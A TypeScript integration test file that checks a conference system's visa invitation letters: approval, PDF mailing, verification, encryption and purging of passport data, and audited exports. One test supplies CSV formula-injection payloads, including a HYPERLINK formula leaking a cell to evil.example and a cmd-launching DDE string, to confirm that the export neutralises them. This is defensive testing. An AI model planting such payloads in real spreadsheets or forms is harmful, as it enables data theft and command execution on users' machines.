/**
 * Visa invitation letters (decision 016): a foreign registrant requests a letter, an admin approves
 * it and the PDF is e-mailed (its text holds the name, the passport number and the reference);
 * the verify page says valid, then revoked after a cancellation; the passport fields appear in
 * neither the registrations list nor its CSV; the stored record does not open without the key;
 * Indian registrants and passports expiring within six months of the conference are refused;
 * the clearance export is audited and neutralises formulas; the passport data is deleted 90 days
 * after the conference.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import adminList from '../../netlify/functions/admin-visa-letters';
import decide from '../../netlify/functions/admin-visa-letters-decide';
import clearance from '../../netlify/functions/admin-visa-letters-export';
import list from '../../netlify/functions/registrations-list';
import exportCsv from '../../netlify/functions/registrations-export';
import purge from '../../netlify/functions/visa-data-purge';
import request from '../../netlify/functions/visa-letters-request';
import verify from '../../netlify/functions/visa-letters-verify';
import { keys, redis } from '../../netlify/server/platform/store';
import { openPassport, type StoredVisaLetter } from '../../netlify/server/visa-letters';
import type { Registration } from '../../netlify/server/registrations';
import { conference } from '../../src/content/conference';
import { visaLetters } from '../../src/content/visa-letters';
import { earliestPassportExpiry } from '../../src/shared/visa-letters';
import { pdftotext } from '../setup/pdftotext';
import { testSecrets } from '../setup/secrets';
import { call, pinClock, runScheduled } from './helpers';
import { adminHeaders, mailAndWebhook, messagesFor, seedRegistration } from './helpers-admin';

const fx = mailAndWebhook();
const flat = (text: string) => text.replace(/\s+/g, ' ');
/** The calendar day (YYYY-MM-DD) `months` and `days` after `day`, counted on the calendar (UTC). */
function dayAfter(day: string, by: { months?: number; days?: number }): string {
  const d = new Date(`${day}T00:00:00Z`);
  d.setUTCMonth(d.getUTCMonth() + (by.months ?? 0));
  d.setUTCDate(d.getUTCDate() + (by.days ?? 0));
  return d.toISOString().slice(0, 10);
}

/** A delegate from Germany, paying in USD. */
const foreignDelegate = (firstName = 'Lena') =>
  seedRegistration({ firstName, lastName: 'Hoffmann', country: 'Germany', billingCountry: 'Germany', registrationTier: 'prof_non_foreign_std', registrationCurrency: 'USD' });

function passportOf(r: Registration, overrides: Record<string, unknown> = {}) {
  return {
    regId: r.registrationNumber,
    email: r.email,
    passportName: `${r.firstName.toUpperCase()} HOFFMANN`,
    nationality: 'Germany',
    passportNumber: `C${r.registrationNumber.slice(-8)}`,
    passportIssueDate: '2020-03-01',
    passportExpiryDate: '2030-02-28',
    dateOfBirth: '1988-07-14',
    ...overrides,
  };
}

async function storedLetter(reference: string): Promise<StoredVisaLetter> {
  const raw = await redis().hget<StoredVisaLetter | string>(keys.visaLetters(), reference);
  return typeof raw === 'string' ? (JSON.parse(raw) as StoredVisaLetter) : raw!;
}

async function cancel(r: Registration) {
  const current = (await redis().get<Registration>(keys.registration(r.registrationNumber)))!;
  await redis().set(keys.registration(r.registrationNumber), { ...current, cancellation: { status: 'approved', requestedAt: r.createdAt, decidedAt: r.createdAt, refundAmount: 0, currency: r.currency } });
}

describe('visa invitation letters', () => {
  it('requested, approved and e-mailed as a PDF with the name, passport number and reference; verify valid, then revoked after a cancellation', async () => {
    const reg = await foreignDelegate();
    const body = passportOf(reg);
    const asked = await call(request, { body });
    expect(asked.status, asked.text).toBe(200);
    expect(asked.body).toEqual({ success: true, reference: expect.stringMatching(/^PESGRE25-VL-[A-Z0-9]{10}$/) });
    const reference: string = asked.body.reference;

    // In the admin queue, with the passport details, waiting.
    const queue = await call(adminList, { headers: await adminHeaders() });
    expect(queue.status).toBe(200);
    const item = queue.body.find((l: { reference: string }) => l.reference === reference);
    expect(item).toMatchObject({ status: 'requested', registrationNumber: reg.registrationNumber, passport: { passportNumber: body.passportNumber, passportName: body.passportName } });
    // Not verifiable before approval.
    expect((await call(verify, { path: `/api/visa-letters/verify?ref=${reference}` })).status).toBe(404);

    const approved = await call(decide, { body: { reference, decision: 'approve' }, headers: await adminHeaders() });
    expect(approved.status, approved.text).toBe(200);
    expect(approved.body.status).toBe('approved');
    const mails = await messagesFor(fx.smtp.messages, reference);
    expect(mails).toHaveLength(1);
    expect(mails[0]!.to?.[0]?.address).toBe(reg.email);
    const pdf = mails[0]!.attachments.find((a) => a.mimeType === 'application/pdf');
    expect(pdf).toBeDefined();
    const text = flat(await pdftotext(new Uint8Array(Buffer.from(pdf!.content as ArrayBuffer))));
    expect(text).toContain(body.passportName);
    expect(text).toContain(body.passportNumber);
    expect(text).toContain(reference);
    expect(text).toContain('Germany');
    expect(text).toContain('PESGRE 2025');
    // Deciding twice is refused.
    expect((await call(decide, { body: { reference, decision: 'reject', reason: 'twice' }, headers: await adminHeaders() })).status).toBe(409);

    const valid = await call(verify, { path: `/api/visa-letters/verify?ref=${reference}` });
    expect(valid.status).toBe(200);
    expect(valid.body).toEqual({ reference, name: body.passportName, valid: true });

    await cancel(reg);
    const revoked = await call(verify, { path: `/api/visa-letters/verify?ref=${reference}` });
    expect(revoked.body).toEqual({ reference, name: body.passportName, valid: false });
    const after = await call(adminList, { headers: await adminHeaders() });
    expect(after.body.find((l: { reference: string }) => l.reference === reference).status).toBe('revoked');
  });

  it('keeps passport fields out of the registrations list and CSV, and the stored record does not open without the key', async () => {
    const reg = await foreignDelegate('Mara');
    const body = passportOf(reg, { passportNumber: 'X9Q7Z3K1W5' });
    const { reference } = (await call(request, { body })).body;

    const listed = await call(list, { headers: await adminHeaders() });
    expect(listed.status).toBe(200);
    expect(listed.text).toContain(reg.registrationNumber);
    const csv = await call(exportCsv, { headers: await adminHeaders() });
    expect(csv.status).toBe(200);
    expect(csv.text).toContain(reg.registrationNumber);
    for (const secret of [body.passportNumber, body.dateOfBirth, body.passportName, '2030-02-28']) {
      expect(listed.text).not.toContain(secret);
      expect(csv.text).not.toContain(secret);
    }

    // Nothing in Redis holds the passport number in clear, and the sealed record needs the key.
    const raw = JSON.stringify(await redis().hgetall(keys.visaLetters()));
    expect(raw).not.toContain(body.passportNumber);
    expect(raw).not.toContain(body.dateOfBirth);
    const stored = await storedLetter(reference);
    expect(stored.sealed).toBeTruthy();
    expect(openPassport(stored.sealed!, reference, Buffer.from(testSecrets.passportDataKey, 'hex')).passportNumber).toBe(body.passportNumber);
    expect(() => openPassport(stored.sealed!, reference, Buffer.alloc(32, 7))).toThrow();
    // Bound to its reference: moved to another letter, it does not open.
    expect(() => openPassport(stored.sealed!, 'PESGRE25-VL-OTHER00000', Buffer.from(testSecrets.passportDataKey, 'hex'))).toThrow();
    // Without PASSPORT_DATA_KEY the endpoint refuses and stores nothing.
    const saved = process.env.PASSPORT_DATA_KEY;
    delete process.env.PASSPORT_DATA_KEY;
    try {
      const other = await foreignDelegate('Nora');
      const before = await redis().hlen(keys.visaLetters());
      const r = await call(request, { body: passportOf(other) });
      expect(r.status).toBe(500);
      expect(await redis().hlen(keys.visaLetters())).toBe(before);
    } finally {
      process.env.PASSPORT_DATA_KEY = saved;
    }
  });

  it('refuses an Indian registrant, and the same answer for a wrong e-mail as for an unknown ID', async () => {
    const indian = await seedRegistration();
    const letters = async () => [await redis().hlen(keys.visaLetters()), await redis().hlen(keys.visaLettersByRegistration())];
    const before = await letters();
    const r = await call(request, { body: passportOf(indian) });
    expect(r.status).toBe(403);
    expect(r.body.error.code).toBe('INDIAN_REGISTRANT');
    expect(r.body.error.message).toMatch(/from India/);
    const foreign = await foreignDelegate('Ilse');
    const indianPassport = await call(request, { body: passportOf(foreign, { nationality: 'India' }) });
    expect(indianPassport.body.error.code).toBe('INDIAN_REGISTRANT');
    const wrongMail = await call(request, { body: passportOf(foreign, { email: 'someone.else@example.org' }) });
    const unknown = await call(request, { body: passportOf(foreign, { regId: 'PESGRE25-ZZZZZZZZ' }) });
    expect(wrongMail.status).toBe(404);
    expect(unknown.status).toBe(404);
    expect(wrongMail.body).toEqual(unknown.body);
    // Refusals write no letter (only the rate-limit counts).
    expect(await letters()).toEqual(before);
  });

  it('requires the passport to be valid six months after the conference', async () => {
    const reg = await foreignDelegate('Greta');
    // This edition's figures from src/content (decision 018): for 2025, 2026-06-21.
    const earliest = dayAfter(conference.endDate, { months: visaLetters.passportValidityMonths });
    expect(earliestPassportExpiry()).toBe(earliest);
    const short = await call(request, { body: passportOf(reg, { passportExpiryDate: dayAfter(earliest, { days: -1 }) }) });
    expect(short.status).toBe(400);
    expect(short.body.error.fieldErrors.passportExpiryDate).toMatch(new RegExp(`${visaLetters.passportValidityMonths} months after the conference.*${earliest}`));
    const exact = await call(request, { body: passportOf(reg, { passportExpiryDate: earliest }) });
    expect(exact.status, exact.text).toBe(200);
    // A second request while one is open says so.
    expect((await call(request, { body: passportOf(reg) })).status).toBe(409);
  });

  it('the clearance export neutralises formulas like every export: a passport name or paper title starting with = + - @ gets a leading quote', async () => {
    const reg = await foreignDelegate('Greta');
    const passportName = '=HYPERLINK("https://evil.example/?q="&A1,"Open")';
    const paperTitle = '@SUM(1+1)*cmd|/c calc';
    const asked = await call(request, { body: passportOf(reg, { passportName, paperTitle }) });
    expect(asked.status, asked.text).toBe(200);
    const csv = await call(clearance, { headers: await adminHeaders() });
    const rows = parse(csv.text, { bom: true }) as string[][];
    const row = rows.find((r) => r[0] === asked.body.reference)!;
    expect(row[3]).toBe(`'${passportName}`);
    expect(row[10]).toBe(`'${paperTitle}`);
    expect(csv.text).toContain('\r\n');
  });

  it('rejects with a reason; the clearance export is admin-only and audited; passport data is deleted 90 days after the conference', async () => {
    const reg = await foreignDelegate('Hanna');
    const { reference } = (await call(request, { body: passportOf(reg) })).body;
    expect((await call(decide, { body: { reference, decision: 'reject' }, headers: await adminHeaders() })).body.error.fieldErrors.reason).toBe('A rejection needs a reason.');
    const rejected = await call(decide, { body: { reference, decision: 'reject', reason: 'Paper withdrawn' }, headers: await adminHeaders() });
    expect(rejected.body).toMatchObject({ status: 'rejected', reason: 'Paper withdrawn' });
    // Rejected: a new request may be made.
    const again = await call(request, { body: passportOf(reg) });
    expect(again.status).toBe(200);

    expect((await call(clearance)).status).toBe(401);
    const auditBefore = await redis().llen(keys.audit());
    const csv = await call(clearance, { headers: await adminHeaders() });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toContain('text/csv');
    expect(csv.text).toContain(again.body.reference);
    expect(csv.text).toContain(passportOf(reg).passportNumber);
    expect(csv.text).not.toContain(reference);
    const entries = await redis().lrange<{ action: string }>(keys.audit(), 0, (await redis().llen(keys.audit())) - auditBefore - 1);
    expect(entries.map((e) => e.action)).toContain('visa-letters.clearance-export');

    // 89 days after the last day nothing is deleted; on the 90th, everything (for 2025: 20 and 21 March 2026).
    const retention = visaLetters.retentionDaysAfterConference;
    pinClock(`${dayAfter(conference.endDate, { days: retention - 1 })}T10:00:00+05:30`);
    expect((await (await runScheduled(purge)).json()).purged).toBe(0);
    expect((await storedLetter(again.body.reference)).sealed).toBeTruthy();
    pinClock(`${dayAfter(conference.endDate, { days: retention })}T10:00:00+05:30`);
    const run = await (await runScheduled(purge)).json();
    expect(run.due).toBe(true);
    expect((await storedLetter(again.body.reference)).sealed).toBeNull();
    const queue = await call(adminList, { headers: await adminHeaders() });
    expect(queue.body.find((l: { reference: string }) => l.reference === again.body.reference).passport).toBeNull();
  });
});
